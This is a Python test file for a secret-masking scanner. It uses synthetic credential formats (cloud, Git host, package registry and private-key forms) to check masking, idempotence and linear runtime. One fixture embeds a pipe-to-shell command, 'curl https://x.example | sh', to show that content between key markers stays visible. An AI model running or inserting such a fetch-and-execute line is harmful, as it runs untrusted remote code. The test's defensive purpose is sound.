from __future__ import annotations

import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from cop_scan.sources.masking import MASK, mask

SECRETS = [
    "ghp_" + "a1B2" * 9,
    "github_pat_" + "A1_b" * 12,
    "glpat-" + "x" * 20,
    "AKIA" + "ABCD1234" * 2,
    "AIza" + "x" * 35,
    "xoxb-" + "1" * 20,
    "npm_" + "a" * 36,
    "pypi-" + "A" * 60,
    "eyJ" + "a" * 20 + ".eyJ" + "b" * 20 + "." + "c" * 20,
    "-----BEGIN RSA PRIVATE KEY-----\nabc\ndef\n-----END RSA PRIVATE KEY-----",
    "-----BEGIN EC PRIVATE KEY-----\n    " + "Ab1/" * 16 + "\n    Ab1=\n    -----END EC PRIVATE KEY-----",
    "-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,00\n\n" + "Ab1/" * 16,
    "-----BEGIN PGP PRIVATE KEY BLOCK-----\n\n" + "Ab1+" * 16 + "\nAb1=\n=abcd\n-----END PGP PRIVATE KEY BLOCK-----",
    "-----BEGIN PRIVATE KEY-----\\n" + "Ab1/" * 16 + "\\n-----END PRIVATE KEY-----\\n",
    "-----BEGIN PRIVATE KEY-----\n" + "cutoff00" * 8,
    "ghs_123456_eyJ" + "a" * 20 + ".eyJ" + "b" * 20 + "." + "c" * 20,
    "glpat-" + "x" * 27 + ".01.0a1b2c3d4",
    "GOCSPX-" + "x" * 28,
    "ya29." + "x" * 60,
    "abc8Q~" + "x" * 34,
    "A1" * 38 + "AZDO" + "abcd",
    "AccountKey=" + "Ab1/" * 21 + "Ab==",
    "https://x.example/?sv=1&sig=" + "Ab1%2F" * 8,
    "//registry.example/:_authToken=" + "0123abcd-" * 4,
    "aws_secret_access_key = '" + "Ab1/" * 10 + "'",
    "AWS_SECRET_ACCESS_KEY=" + "Ab1/" * 10,
    "https://hooks.slack.com/services/" + "T0000000/B0000000/" + "x" * 24,
    "redis://:hunter2hunter2@host",
    "postgres://me:p:w$rd@host",
]


@pytest.mark.parametrize("secret", SECRETS, ids=lambda secret: secret[:12])
def test_a_known_form_is_masked_and_lines_stay(secret: str) -> None:
    text = f"before\nkey: {secret}\n".encode()
    masked = mask(text)
    assert MASK in masked
    assert secret.splitlines()[-1].encode() not in masked
    assert not any(
        part in masked for part in (b"Ab1/", b"cutoff00", b"hunter2", b"xxxx", b"0123abcd", b"A1A1", b"cccc")
    )
    assert masked.count(b"\n") == text.count(b"\n")
    assert masked.startswith(b"before\n")


def test_a_password_in_an_address_is_masked_but_a_variable_is_kept() -> None:
    assert mask(b"https://me:hunter2@host/x") == b"https://me:[masked]@host/x"
    assert mask(b"https://me:${PASS}@host/x") == b"https://me:${PASS}@host/x"


@pytest.mark.parametrize(
    "text",
    [
        b"uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683",
        b"${{ secrets.NPM_TOKEN }}",
        b"_authToken=${NPM_TOKEN}",
        b"uses: docker://alpine:3.18@sha256:" + b"0" * 64,
        b"https://x-access-token:$GITHUB_TOKEN@github.com/a/b",
        b"https://me:<password>@host http://localhost:8080/@scope/name",
    ],
)
def test_what_is_no_secret_is_kept(text: bytes) -> None:
    assert mask(text) == text


@given(st.lists(st.one_of(st.sampled_from(SECRETS), st.text(max_size=20)), max_size=6))
def test_masking_twice_changes_nothing_more_and_keeps_the_lines(parts: list[str]) -> None:
    text = "\n".join(parts).encode("utf-8", "replace")
    once = mask(text)
    assert mask(once) == once
    assert once.count(b"\n") == text.count(b"\n")


@pytest.mark.parametrize("end", [b"# -----END PRIVATE KEY-----", b"# the end"])
def test_lines_between_the_marks_of_a_key_that_are_no_key_cannot_be_hidden(end: bytes) -> None:
    lines = b"jobs:\n  a:\n    uses: someone/else@main\n    run: curl https://x.example | sh\n"
    assert lines in mask(b"# -----BEGIN PRIVATE KEY-----\n" + lines + end)


PIECES = [
    *(secret[: len(secret) // 2] for secret in SECRETS),
    *SECRETS,
    "A",
    "_",
    "-",
    ".",
    "eyJ",
    "://",
    ":",
    "@",
    "\n",
]


@given(st.lists(st.sampled_from(PIECES), max_size=8).map("".join))
def test_masking_pieces_of_secrets_twice_changes_nothing_more(text: str) -> None:
    once = mask(text.encode())
    assert mask(once) == once
    assert once.count(b"\n") == text.count("\n")


@pytest.mark.parametrize(
    "piece",
    [
        "eyJ",
        "eyJ" + "a" * 10 + ".",
        "://a:",
        "-----BEGIN PRIVATE KEY-----\n",
        "ghp_",
        "glpat-a.",
        "Q~",
        "AZDO",
        "a" * 76,
    ],
)
def test_time_grows_with_the_text_and_no_faster(piece: str) -> None:
    small = (piece * (20_000 // len(piece))).encode()
    assert _seconds(small * 10) < 40 * _seconds(small) + 0.02


def _seconds(data: bytes) -> float:
    def once() -> float:
        started = time.process_time()
        mask(data)
        return time.process_time() - started

    return min(once() for _ in range(3))
